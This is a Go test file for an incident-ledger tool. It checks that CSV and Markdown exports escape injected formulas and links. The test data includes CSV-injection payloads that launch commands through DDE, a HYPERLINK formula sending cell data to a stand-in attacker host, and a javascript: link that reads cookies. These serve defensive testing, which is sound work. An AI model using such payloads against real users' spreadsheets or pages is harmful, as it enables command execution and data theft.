package main_test

import (
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
)

// Spreadsheet formulas a responder may put in any free text: each would run
// (or reach out) in the DPO's spreadsheet if a CSV cell began with it
// (OWASP, CSV injection).
var formulas = []string{
	`=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?leak="&A1,"open")`,
}

// mdLink is a Markdown link or image that ledger text could form.
var mdLink = regexp.MustCompile(`!?\[[^\]]*\]\([^)]*\)`)

// TestExportsDoNotAttackTheirReader records formulas and a javascript:
// link in every kind of free text a report carries (the summary, a
// classification's reason, a note), then reads every export: no CSV cell
// of any of them starts a formula, and no Markdown export holds a live
// link; the text itself is still there, neutralised.
func TestExportsDoNotAttackTheirReader(t *testing.T) {
	c := newLedger(t)
	c.ok("alice", "init", "--name", "injection", "--at", "2025-03-01T00:00:00Z")
	for actor, role := range map[string]string{"oscar": "responder", "sam": "security-response", "ian": "incident-manager"} {
		c.ok("alice", "grant", actor, role, "--at", "2025-03-01T00:01:00Z")
	}
	c.register("2025-03-01T00:02:00Z", "oscar", "sam", "ian")
	link := "[click for the evidence](javascript:alert(document.cookie))"
	inc := strings.TrimSpace(c.ok("oscar", "detect", "-q", "--source", "customer-report", "--summary", formulas[0],
		"--aware-at", "2025-03-07T22:15:00Z", "--at", "2025-03-07T21:40:00Z"))
	c.ok("oscar", "assess", inc, "-f", "low", "-r", "regular", "-i", "privacy-breach", "--at", "2025-03-07T22:30:00Z")
	c.ok("sam", "classify", inc, "privacy-breach", "--reason", formulas[1], "--at", "2025-03-08T09:00:00Z")
	for i, text := range append(formulas[2:], link, "\t=1+1") {
		c.ok("ian", "note", "--at", "2025-03-08T1"+string(rune('0'+i))+":00:00Z", inc, "--", text)
	}

	period := []string{"--from", "2025-01-01T00:00:00Z", "--to", "2025-04-01T00:00:00Z"}
	for _, args := range [][]string{
		{"report", "--incident", inc, "--format", "csv"},
		{"register", "--format", "csv"},
		append([]string{"report", "--format", "csv"}, period...),
	} {
		out := c.ok("auditor", args...)
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatalf("%s: not CSV: %v", strings.Join(args, " "), err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if t0 := strings.TrimLeft(cell, " "); t0 != "" && strings.ContainsRune("=+-@\t\r", rune(t0[0])) {
					t.Errorf("%s: a cell starts a formula: %q", strings.Join(args, " "), cell)
				}
			}
		}
		if strings.Join(args[:1], "") == "report" && args[1] == "--incident" {
			for _, f := range formulas[:4] { // what the incident report carries, neutralised, not dropped
				if !strings.Contains(out, "'"+f) && !strings.Contains(out, `'`+strings.ReplaceAll(f, `"`, `""`)) {
					t.Errorf("%s: %q is not there as text ('%s)", strings.Join(args, " "), f, f)
				}
			}
		}
	}
	if out := c.ok("auditor", "register", "--format", "csv"); !strings.Contains(out, "'"+formulas[0]) {
		t.Errorf("register: the summary is not there as text:\n%s", out)
	}

	for _, args := range [][]string{
		{"report", "--incident", inc, "--format", "md"},
		{"register", "--format", "md"},
		append([]string{"report", "--format", "md"}, period...),
	} {
		out := c.ok("auditor", args...)
		if m := mdLink.FindAllString(strings.ReplaceAll(out, `\[`, ""), -1); len(m) > 0 {
			t.Errorf("%s: Markdown links formed from ledger text: %q", strings.Join(args, " "), m)
		}
		if args[1] == "--incident" && !strings.Contains(out, `\[click for the evidence\](javascript:alert(document.cookie))`) {
			t.Errorf("%s: the note is not there as escaped text", strings.Join(args, " "))
		}
	}
}

// TestLogTextHasEveryEnvelopeField: log's text rows carry the business
// time, the signer, the basis and the payload, as its help says, not only
// the recorded time.
func TestLogTextHasEveryEnvelopeField(t *testing.T) {
	c := newLedger(t)
	c.ok("alice", "init", "--name", "log", "--at", "2025-03-01T00:00:00Z")
	c.ok("alice", "grant", "oscar", "responder", "--at", "2025-03-01T00:01:00Z")
	c.register("2025-03-01T00:02:00Z", "oscar")
	inc := strings.TrimSpace(c.ok("oscar", "detect", "-q", "--source", "customer-report", "--summary", "tenant data on a paste site",
		"--aware-at", "2025-03-07T22:15:00Z", "--at", "2025-03-07T21:40:00Z"))
	out := c.ok("auditor", "log", "--incident", inc)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) < 2 {
		t.Fatalf("log --incident: %q", out)
	}
	head, row := strings.Fields(lines[0]), lines[1]
	for _, col := range []string{"AT", "RECORDED", "SIGNER", "BASIS", "PAYLOAD"} {
		if !strings.Contains(lines[0], col) {
			t.Errorf("log header %q lacks %s", head, col)
		}
	}
	for _, want := range []string{"2025-03-07T21:40:00Z", `"summary":"tenant data on a paste site"`, "SHA256:"} {
		if !strings.Contains(row, want) {
			t.Errorf("log row lacks %q:\n%s", want, row)
		}
	}
}
